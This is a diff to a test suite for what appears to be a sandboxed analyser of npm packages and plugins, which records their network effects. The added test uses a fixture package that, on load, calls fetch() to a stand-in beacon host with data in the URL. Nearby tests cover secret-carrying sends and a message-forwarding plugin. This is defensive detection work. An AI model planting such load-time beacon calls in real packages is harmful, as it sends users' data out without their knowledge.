@@ -225,6 +225,19 @@ describe('libraries and plugins', () => {
     expect(of(r2.effects, 'send', 'linux').some((e) => e.carries?.includes('dotenv'))).toBe(true);
   });
 
+  it('draws Math.random and randomBytes from one fixed sequence: the same package, the same effects on every run', () => {
+    const src = `
+      const crypto = require('crypto');
+      const hits = [];
+      for (let i = 0; i < 40; i++) if (Math.random() < 0.2) hits.push(i);
+      fetch('https://beacon.example.invalid/r?h=' + hits.join('.') + '&b=' + crypto.randomBytes(4).toString('hex'));`;
+    const manifest = { name: 'dice', version: '1.0.0', main: 'index.js' };
+    const urls = () => of(run({ 'index.js': src }, [{ file: 'index.js', reach: 'load' }], manifest).effects, 'fetch', 'linux').map((e) => e.url);
+    const first = urls();
+    expect(first).toHaveLength(1);
+    expect(urls()).toEqual(first);
+  });
+
   it('shows an OpenClaw plugin forwarding every message it receives', () => {
     const src = `
       export default {
